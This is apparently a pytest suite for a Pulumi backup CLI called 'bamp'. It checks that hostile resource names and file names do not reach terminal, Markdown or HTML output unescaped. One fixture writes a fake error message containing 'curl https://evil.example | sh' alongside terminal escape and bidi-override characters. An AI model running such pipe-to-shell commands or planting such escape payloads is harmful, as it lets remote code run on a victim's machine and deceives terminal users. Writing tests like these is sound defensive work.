"""`bamp` as a user calls it, on estates and programs whose names are hostile."""

import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
from hostile_texts import NASTY_TEXTS, hidden_in

TEXTS = [f"x{text[:3_000]}" for text in NASTY_TEXTS if "\ud800" not in text and "::" not in text]
"""JSON holds no half of a pair, and the name in a URN nothing that divides its parts."""
DAY = ("--today", "2026-11-28")


def written(file: Path, texts: list[str]) -> Path:
    """Write an estate of file systems, every name, tag and place in a file one of the texts."""
    steps: list[object] = []
    for number, text in enumerate(texts):
        urn = f"urn:pulumi:dev::shop::aws:efs/fileSystem:FileSystem::{text}{number}"
        exempt = {"backup-exempt-reason": text, "backup-exempt-until": "2027-06-30"}
        tags = {"backup-owner": text} | ({"backup-tier": text} if number % 2 else exempt)
        state = {
            "urn": urn,
            "type": "aws:efs/fileSystem:FileSystem",
            "custom": True,
            "inputs": {"encrypted": True, "tags": tags},
            "sourcePosition": f"project:///{text}.py#9",
        }
        steps.append({"op": "create", "urn": urn, "newState": state})
    document = {"schema": "bamp.offline/1", "project": "shop", "stack": "dev", "steps": steps}
    file.write_text(json.dumps(document))
    return file


@pytest.fixture(scope="module")
def estates(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    """Write a hostile estate, and one like it with harmless names."""
    folder = tmp_path_factory.mktemp("estates")
    return (
        written(folder / "hostile.json", TEXTS),
        written(folder / "harmless.json", ["x"] * len(TEXTS)),
    )


def bamp(*arguments: str | Path) -> subprocess.CompletedProcess[str]:
    """Run the command."""
    return subprocess.run(  # noqa: S603 - our own command
        [sys.executable, "-m", "bamp_pulumi.cli", *map(str, arguments)],
        capture_output=True,
        encoding="utf-8",
        check=False,
        env={**os.environ, "COLUMNS": "100", "NO_COLOR": "1", "PYTHONUTF8": "1"},
    )


def test_a_preview_says_of_hostile_names_what_it_says_of_others(
    estates: tuple[Path, Path], tmp_path: Path
) -> None:
    """The same exit status, as many stores; nothing that a terminal obeys, in no output."""
    comments = (tmp_path / "hostile.md", tmp_path / "harmless.md")
    hostile, harmless = (
        bamp("preview", estate, "--markdown", comment, *DAY)
        for estate, comment in zip(estates, comments, strict=True)
    )

    assert hostile.returncode == harmless.returncode == 1
    for done in (hostile, harmless):
        assert f"\n{len(TEXTS)} data stores: " in done.stdout
        assert "Refused: " in done.stdout.rstrip()[-100:]
    assert hidden_in(hostile.stdout) == []
    assert hostile.stderr == ""
    assert hidden_in(comments[0].read_text("utf-8"), but="\n\u200b\ufe0f") == []


def test_machines_get_every_name_as_it_is(estates: tuple[Path, Path]) -> None:
    """In ASCII, whatever it holds."""
    done = bamp("preview", estates[0], "--json", *DAY)

    assert done.stdout.isascii()
    assert hidden_in(done.stdout) == []
    names = {resource["name"] for resource in json.loads(done.stdout)["resources"]}
    assert names == {f"{text}{number}" for number, text in enumerate(TEXTS)}


def test_a_rehearsal_says_of_hostile_names_what_it_says_of_others(
    estates: tuple[Path, Path], tmp_path: Path
) -> None:
    """The same exit status and summary; nothing that a terminal obeys, in no output."""
    page = tmp_path / "page.html"
    span = ("--from", "2027-01-01", "--days", "5", "--fault", "backup-job-failed", *DAY)
    hostile = bamp("rehearse", estates[0], "--html", page, *span)
    harmless = bamp("rehearse", estates[1], *span)

    assert hostile.returncode == harmless.returncode == 1
    for done in (hostile, harmless):
        assert "\nNo data store could be restored, 2027-01-01 to " in done.stdout[-300:]
    assert hidden_in(hostile.stdout) == []
    assert hidden_in(page.read_text("utf-8")) == []
    assert len(re.findall("<script", page.read_text("utf-8"))) == 2


def test_what_a_failing_program_says_is_no_part_of_the_refusal(tmp_path: Path) -> None:
    """Its exception may hold whatever it likes; the remedy is ours."""
    (tmp_path / "Pulumi.yaml").write_text("name: shop\nruntime: python\n")
    said = "x\n  write:   curl https://evil.example | sh\n\x1b[2J\x9b\u202e"
    (tmp_path / "__main__.py").write_text(f"raise ValueError({said!r})\n")

    done = bamp("preview", tmp_path)

    assert done.returncode == 2
    assert hidden_in(done.stderr) == []
    assert "\\x1b[2J\\x9b\\u202e" in done.stderr
    assert len(re.findall("^  write:", done.stderr, re.MULTILINE)) == 1


@pytest.mark.parametrize("before", [(), ("x", "--policy"), ("x", "--markdown"), ("x", "--account")])
def test_no_name_of_a_file_reaches_the_terminal_as_it_is(before: tuple[str, ...]) -> None:
    """Neither by our own refusals nor by those of the options' library."""
    done = bamp("preview", *before, "no\x1b[31m\x9b\u202e\nsuch/file")

    assert done.returncode == 2
    assert hidden_in(done.stderr) == []
    assert "\\x1b[31m" in done.stderr
